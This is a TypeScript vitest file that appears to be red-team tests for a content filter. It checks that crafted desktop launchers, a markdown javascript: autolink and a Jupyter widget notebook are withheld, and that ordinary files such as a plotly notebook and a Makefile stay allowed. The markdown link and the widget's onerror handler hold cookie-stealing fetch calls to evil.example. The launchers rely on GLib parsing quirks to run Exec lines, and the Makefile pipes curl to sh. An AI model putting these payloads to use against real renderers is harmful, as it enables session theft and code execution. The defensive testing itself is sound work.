// Red team (issue 41, hidden-style round 8), content the earlier rounds did not send, and ordinary files that must stay
// allowed. Launchers as GLib's key-file reader takes them (`gio launch` the oracle, as in test/content/redteam): spaces
// around a key's `=` (GLib trims them; `Exec = …` runs) and white space after a group's `]`. Markdown: an autolink whose
// scheme is `javascript:` (commonmark.js renders it as an `href`). A notebook whose ipywidgets state holds an HTML
// widget with an `onerror` handler (nbconvert's HTML export and JupyterLab render saved widget state; the HTML widget
// sets its value as markup). Controls (issue 41 item 5): a plotly notebook output, a README with `<details>` and a sized
// `<img>`, a CSS file with an inline SVG data url, a tox.ini with `commands =`, a Makefile whose install line pipes curl
// to sh (make, not a shell, reads it). Each body judged under every sending a server would use (the shipped profile).
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, test } from 'vitest';
import { expectExecRan, gioLaunchSuite } from '../content/redteam/gio-launch.ts';
import { judgeSendings, letThrough, refused, type Sending, sendingsOf } from '../content/redteam/judge-variants.ts';
import { caseKeys } from './round-cases.ts';

// Cases that got through when this round was written, each `test.fails` until its fix lands (then `test`). None
// open: the notebook widget state (`metadata.widgets`, which nbconvert's default template embeds with the widget
// manager that renders the HTML widget's value as markup) is read by `widgetPieces` in active-notebook.ts.
const open = new Set<string>([]);
const it = caseKeys(open);

const launch = gioLaunchSuite('linkgate-redteam-r8content-', 'notes.desktop');
const launcherSendings = sendingsOf('guide://share/notes', ['.desktop', '.txt', ''], ['text/plain', undefined]);
const mark = '/tmp/r8-notes-ran';

const launchers: [string, string][] = [
  ['launcher spaced equals', '[Desktop Entry]\nType = Application\nName = Notes\nExec = touch MARK\n'],
  ['launcher group trailing space', '[Desktop Entry]  \nType=Application\nName=Notes\nExec=touch MARK\n'],
];

describe('red team, content (round 8): launchers as GLib reads them', () => {
  for (const [label, body] of launchers)
    it(label)(`${label}: gio launch runs it, the shipped profile withholds it however it is sent`, async (ctx) => {
      await expectExecRan(await launch(ctx, body));
      expect(letThrough(await judgeSendings({ text: body.replaceAll('MARK', mark) }, launcherSendings))).toEqual([]);
    });
});

const widgetNotebook = JSON.stringify({
  nbformat: 4,
  nbformat_minor: 5,
  metadata: {
    kernelspec: { name: 'python3', display_name: 'Python 3', language: 'python' },
    widgets: {
      'application/vnd.jupyter.widget-state+json': {
        version_major: 2,
        version_minor: 0,
        state: {
          w1: {
            model_name: 'HTMLModel',
            model_module: '@jupyter-widgets/controls',
            model_module_version: '2.0.0',
            state: { value: '<img src=x onerror="fetch(`https://evil.example/`+document.cookie)">' },
          },
        },
      },
    },
  },
  cells: [
    {
      cell_type: 'code',
      execution_count: 1,
      metadata: {},
      source: ['import ipywidgets as w\n', 'w.HTML("hi")'],
      outputs: [
        {
          output_type: 'display_data',
          metadata: {},
          data: {
            'application/vnd.jupyter.widget-view+json': { version_major: 2, version_minor: 0, model_id: 'w1' },
            'text/plain': ['HTML(value="hi")'],
          },
        },
      ],
    },
  ],
});

const attacks: [string, string, Sending[]][] = [
  [
    'markdown javascript autolink',
    '# Links\n\nOpen <javascript:fetch(`https://evil.example/`+document.cookie)> to continue.\n',
    [
      ['guide://d/readme.md', 'text/markdown'],
      ['guide://d/readme.md', 'text/plain'],
      ['guide://d/readme.md', undefined],
    ],
  ],
  [
    'notebook widget state',
    widgetNotebook,
    [
      ['guide://d/analysis.ipynb', 'application/json'],
      ['guide://d/analysis.ipynb', undefined],
    ],
  ],
];

describe('red team, content (round 8): the notebook viewer embeds widget state', () => {
  test('control: nbconvert (its default template) embeds the state and the manager that renders it', async (ctx) => {
    const bin = '/usr/bin/jupyter-nbconvert';
    if (!existsSync(bin)) {
      if (process.env['CI'] === 'true') throw new Error(`${bin} is missing`);
      return ctx.skip('jupyter-nbconvert is not installed');
    }
    const dir = mkdtempSync(path.join(tmpdir(), 'linkgate-redteam-r8nb-'));
    try {
      const file = path.join(dir, 'analysis.ipynb');
      writeFileSync(file, widgetNotebook);
      const run = spawnSync(bin, ['--to', 'html', '--stdout', file], {
        encoding: 'utf8',
        env: { ...process.env, HOME: dir, JUPYTER_CONFIG_DIR: dir },
        timeout: 120_000,
      });
      expect(run.status, run.stderr.slice(-500)).toBe(0);
      expect(run.stdout).toContain('application/vnd.jupyter.widget-state+json');
      expect(run.stdout).toContain('@jupyter-widgets/html-manager');
      expect(run.stdout).toContain('onerror=');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('red team, content (round 8): renderers and notebooks', () => {
  for (const [label, text, sendings] of attacks)
    it(label)(`a ${label} body is withheld however it is sent`, async () => {
      expect(letThrough(await judgeSendings({ text }, sendings))).toEqual([]);
    });
});

const plotly = JSON.stringify({
  nbformat: 4,
  nbformat_minor: 5,
  metadata: { kernelspec: { name: 'python3', display_name: 'Python 3', language: 'python' } },
  cells: [
    {
      cell_type: 'code',
      execution_count: 1,
      metadata: {},
      source: ['import plotly.express as px\n', 'px.line(x=[1, 2], y=[3, 4])'],
      outputs: [
        {
          output_type: 'display_data',
          metadata: {},
          data: {
            'application/vnd.plotly.v1+json': {
              config: { plotlyServerURL: 'https://plot.ly' },
              data: [{ type: 'scatter', x: [1, 2], y: [3, 4], mode: 'lines' }],
              layout: { template: {}, xaxis: { title: { text: 'x' } } },
            },
            'text/plain': ['Figure()'],
          },
        },
      ],
    },
  ],
});

const ordinary: [string, string, Sending[]][] = [
  ['plotly notebook', plotly, [['file:///d/plot.ipynb', 'application/json']]],
  [
    'readme details',
    '# Tool\n\n<p align="center"><img src="docs/logo.png" width="120" alt="logo"></p>\n\n<details>\n<summary>Install</summary>\n\n```sh\nnpm i tool\n```\n\n</details>\n',
    [
      ['file:///d/README.md', 'text/markdown'],
      ['file:///d/README.md', 'text/plain'],
    ],
  ],
  [
    'css svg data url',
    ".icon{background:url(\"data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 8 8'><path d='M0 0h8v8H0z'/></svg>\")}\n",
    [
      ['file:///d/site.css', 'text/plain'],
      ['file:///d/site.css', undefined],
    ],
  ],
  [
    'tox ini',
    '[tox]\nenvlist = py311\n\n[testenv]\ndeps = pytest\ncommands = pytest -q {posargs}\n',
    [
      ['file:///d/tox.ini', 'text/plain'],
      ['file:///d/tox.ini', undefined],
    ],
  ],
  [
    'makefile curl',
    'install:\n\tcurl -fsSL https://get.example.org/install.sh | sh\n\n.PHONY: install\n',
    [
      ['file:///d/Makefile', 'text/plain'],
      ['file:///d/Makefile', undefined],
    ],
  ],
];

describe('red team, content (round 8): ordinary files are not blocked', () => {
  for (const [label, text, sendings] of ordinary)
    it(label)(`an ordinary ${label} file is allowed`, async () => {
      expect(refused(await judgeSendings({ text }, sendings))).toEqual([]);
    });
});
